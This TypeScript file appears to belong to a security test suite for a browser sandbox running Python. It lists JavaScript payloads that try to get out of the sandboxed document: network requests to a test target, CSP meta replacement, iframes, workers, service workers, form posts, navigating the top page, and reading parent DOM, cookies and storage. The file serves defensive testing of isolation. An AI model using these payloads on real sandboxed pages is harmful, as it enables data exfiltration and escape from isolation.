/**
 * Attacks of code that has got hold of the sandbox's document. No way there is known, since the frame's own script ends
 * once it has started the worker and Python runs in that; this is what a hole in front of it would be worth.
 */
import type { Attack } from './attacks';

export function fromDocument(target: string, ws: string): readonly Attack[] {
  const url = (name: string) => JSON.stringify(`${target}/${name}`);
  const element = (tag: string, attributes: string) =>
    `new Promise((r) => { const e = Object.assign(document.createElement('${tag}'), ${attributes}); e.onload = () => r('loaded'); e.onerror = () => r('refused'); document.documentElement.append(e); })`;
  const style = (text: string) =>
    `(() => { const s = document.createElement('style'); s.textContent = ${JSON.stringify(text)}; document.documentElement.append(s); return document.fonts?.load('12px f'); })()`;
  return [
    { name: 'fetch', script: `fetch(${url('fetch')}, { mode: 'no-cors' })` },
    {
      name: 'a softer policy',
      script: `(async () => { for (const m of document.querySelectorAll('meta')) m.remove(); const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = 'default-src *'; document.head.append(m); return fetch(${url('softer')}, { mode: 'no-cors' }); })()`,
    },
    {
      name: 'another document',
      script: `(async () => { const f = document.createElement('iframe'); document.documentElement.append(f); return f.contentWindow.fetch(${url('about-blank')}, { mode: 'no-cors' }); })()`,
    },
    {
      name: 'a document of its own making',
      script: element('iframe', `{ srcdoc: '<script>fetch(' + JSON.stringify(${url('srcdoc')}) + ')</' + 'script>' }`),
    },
    { name: 'a frame', script: element('iframe', `{ src: ${url('frame')} }`) },
    { name: 'an object', script: element('object', `{ data: ${url('object')} }`) },
    { name: 'an embed', script: element('embed', `{ src: ${url('embed')} }`) },
    { name: 'a picture', script: element('img', `{ src: ${url('picture')} }`) },
    { name: 'a video', script: element('video', `{ src: ${url('video')} }`) },
    { name: 'a script', script: element('script', `{ src: ${url('script')} }`) },
    { name: 'a style sheet', script: element('link', `{ rel: 'stylesheet', href: ${url('sheet')} }`) },
    { name: 'a prefetch', script: element('link', `{ rel: 'prefetch', href: ${url('prefetch')} }`) },
    { name: 'a preload', script: element('link', `{ rel: 'preload', as: 'script', href: ${url('preload')} }`) },
    { name: 'an icon', script: element('link', `{ rel: 'icon', href: ${url('icon')} }`) },
    { name: 'a manifest', script: element('link', `{ rel: 'manifest', href: ${url('manifest')} }`) },
    { name: 'an import of styles', script: style(`@import url("${target}/styles");`) },
    { name: 'a background', script: style(`html { background: url("${target}/background"); }`) },
    { name: 'a font', script: style(`@font-face { font-family: f; src: url("${target}/font"); }`) },
    { name: 'a beacon', script: `navigator.sendBeacon(${url('beacon')}, 'x')` },
    {
      name: 'a socket',
      script: `new Promise((r) => { const w = new WebSocket(${JSON.stringify(`${ws}/socket`)}); w.onopen = () => r('open'); w.onerror = () => r('refused'); })`,
    },
    {
      name: 'events',
      script: `new Promise((r) => { const s = new EventSource(${url('events')}); s.onopen = () => r('open'); s.onerror = () => { s.close(); r('refused'); }; })`,
    },
    { name: 'a transport', script: `new WebTransport(${url('transport')}.replace('http:', 'https:')).ready` },
    { name: 'an import', script: `import(${url('import')})` },
    {
      name: 'a worker',
      script: `new Promise((r) => { const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`fetch(${url('worker')}, { mode: 'no-cors' }).finally(() => postMessage('over'))`)}]))); w.onmessage = () => r('over'); })`,
    },
    { name: 'a shared worker', script: `new SharedWorker(${url('shared')})` },
    { name: 'a service worker', script: `navigator.serviceWorker.register(${url('service')})` },
    {
      name: 'a form',
      script: `(() => { const f = Object.assign(document.createElement('form'), { action: ${url('form')}, method: 'post', target: '_top' }); document.documentElement.append(f); f.submit(); return 'sent'; })()`,
    },
    { name: 'a window', script: `open(${url('window')}) === null ? 'refused' : 'open'` },
    { name: 'the page’s address', script: `top.location.replace(${url('top')})` },
    { name: 'the page', script: `parent.document.body.innerHTML` },
    { name: 'the frame element', script: `String(frameElement)` },
    { name: 'the page’s functions', script: `parent.eval('1')` },
    { name: 'cookies', script: `document.cookie` },
    { name: 'storage', script: `localStorage.length` },
    { name: 'a database', script: `indexedDB.databases().then((all) => all.length + ' databases')` },
  ];
}
